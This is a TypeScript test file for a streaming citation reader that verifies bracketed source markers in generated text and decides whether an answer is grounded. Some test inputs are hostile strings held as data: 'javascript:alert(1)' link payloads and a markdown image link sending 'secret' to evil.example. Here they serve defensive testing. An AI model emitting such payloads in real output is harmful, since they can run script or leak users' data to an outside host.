import type { Citation, DocumentId, PassageId } from "@larder/contracts";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createCitationReader } from "./citation-reader.ts";

/** Markers 1 to 3 are supported when the statement does not say "unsupported". */
const support = (marker: number, statement: string): Citation | undefined =>
  marker < 1 || marker > 3 || statement.includes("unsupported")
    ? undefined
    : {
        marker,
        passageId: "psg_1" as PassageId,
        title: "Salt",
        headings: [],
        documentId: "doc_1" as DocumentId,
        start: statement.length,
        end: statement.length + 1,
        quote: statement,
      };

function read(...deltas: readonly string[]) {
  const reader = createCitationReader(support);
  const parts = [...deltas.flatMap((delta) => reader.push(delta)), ...reader.end()];
  const given = parts.map((part) => (part.kind === "text" ? part.text : "")).join("");
  expect(given).toBe(reader.text());
  return { text: reader.text(), citations: reader.citations, isGrounded: reader.isGrounded(), parts };
}

describe("createCitationReader", () => {
  it.each([
    ["Tea is hot [1].", "Tea is hot [1].", ["Tea is hot"]],
    ["Tea is hot. [1] Ice is cold. [2]", "Tea is hot. [1] Ice is cold. [2]", ["Tea is hot.", "Ice is cold."]],
    ["Tea is hot [1][2].", "Tea is hot [1][2].", ["Tea is hot", "Tea is hot"]],
    ["Tea is hot [1, 2; 9].", "Tea is hot [1][2].", ["Tea is hot", "Tea is hot"]],
    ["Tea is hot [1] and ice is cold [2].", "Tea is hot [1] and ice is cold [2].", ["Tea is hot", " and ice is cold"]],
    ["- tea is hot [1]\n- ice is cold [2]", "- tea is hot [1]\n- ice is cold [2]", ["- tea is hot", "- ice is cold"]],
    ["Tea is hot [1] [1].", "Tea is hot [1].", ["Tea is hot"]],
  ])("keeps the verified markers of %j", (text, shown, statements) => {
    const { citations, ...given } = read(text);
    expect(given.text).toBe(shown);
    expect(citations.map(({ quote }) => quote)).toEqual(statements);
    expect(given.isGrounded).toBe(true);
  });

  it.each([
    ["Tea is hot [99].", "Tea is hot."],
    ["Tea is hot [0] today.", "Tea is hot today."],
    ["Tea is hot[77]today.", "Tea is hottoday."],
    ["unsupported things [1].", "unsupported things."],
    ["[1] Tea is hot.", " Tea is hot."],
    ["Tea is hot [1](javascript:alert(1)).", "Tea is hot(javascript:alert(1))."],
    ["Tea is hot.\n[1]: javascript:alert(1)", "Tea is hot.\n: javascript:alert(1)"],
    ["[[1]](javascript:alert(1))", "[] (javascript:alert(1))"],
    ["![x](https://evil.example/?q=secret)", "![x] (https://evil.example/?q=secret)"],
    ["Tea [1 is hot", "Tea [1 is hot"],
    ["Tea [see below] is hot", "Tea [see below] is hot"],
    ["Tea [1234567] is hot", "Tea [1234567] is hot"],
  ])("gives no citation for %j", (text, shown) => {
    expect(read(text)).toMatchObject({ text: shown, citations: [], isGrounded: false });
  });

  it("leaves code alone", () => {
    for (const code of ["`rows[99]`", "```\nrows[99](row)\n```", "``a`[99]``"]) {
      expect(read(`It reads ${code} once [1].`)).toMatchObject({ text: `It reads ${code} once [1].` });
    }
    expect(read("An open ` does not swallow the rest\nTea is hot [99].").text).not.toContain("[99]");
  });

  it("is grounded only when each sentence that states something is cited", () => {
    expect(read("Tea is hot [1]. Ice is cold.").isGrounded).toBe(false);
    expect(read("Tea is hot [1]. Ice is unsupported [2].").isGrounded).toBe(false);
    expect(read("There are two:\n1. Tea is hot [1].\n2. Ice is cold [2].").isGrounded).toBe(true);
    expect(read("# Drinks\n\nTea is hot [1]. Do you like it?").isGrounded).toBe(true);
    expect(read("").isGrounded).toBe(false);
  });

  it("gives each citation right behind its marker, once", () => {
    const { parts } = read("Tea is hot [1]. Tea is hot [1].");
    expect(parts.map(({ kind }) => kind)).toEqual(["text", "citation", "text"]);
  });

  it("holds back nothing that cannot become a marker", () => {
    const reader = createCitationReader(support);
    expect(reader.push("Tea is hot")).toEqual([{ kind: "text", text: "Tea is hot" }]);
    expect(reader.push(" [")).toEqual([]);
    expect(reader.push("1")).toEqual([]);
    expect(reader.push("]")).toEqual([]);
    expect(reader.push(".")).toMatchObject([{ kind: "text", text: " [1]" }, { kind: "citation" }, { text: "." }]);
  });

  it("reads the same from any deltas", () => {
    const sign = fc.constantFrom(
      ..."ab. []()`:\n,12349".split(""),
      "Tea is hot ",
      "[1]",
      " [2, 3]",
      "](",
      "```",
      "unsupported ",
    );
    fc.assert(
      fc.property(fc.array(sign, { maxLength: 40 }), (signs) => {
        const text = signs.join("");
        const whole = read(text);
        const { parts: _, ...pieces } = read(...text);
        expect(pieces).toEqual({ text: whole.text, citations: whole.citations, isGrounded: whole.isGrounded });
        expect(read(...signs).text).toBe(whole.text);
      }),
      { numRuns: 1_000 },
    );
  });

  it("reads hostile text in linear time", () => {
    // What is quadratic takes more than a test may.
    for (const unit of [" ", "[", "`", "](", "[1", "[1,"]) expect(read(unit.repeat(20_000)).citations).toEqual([]);
  });
});
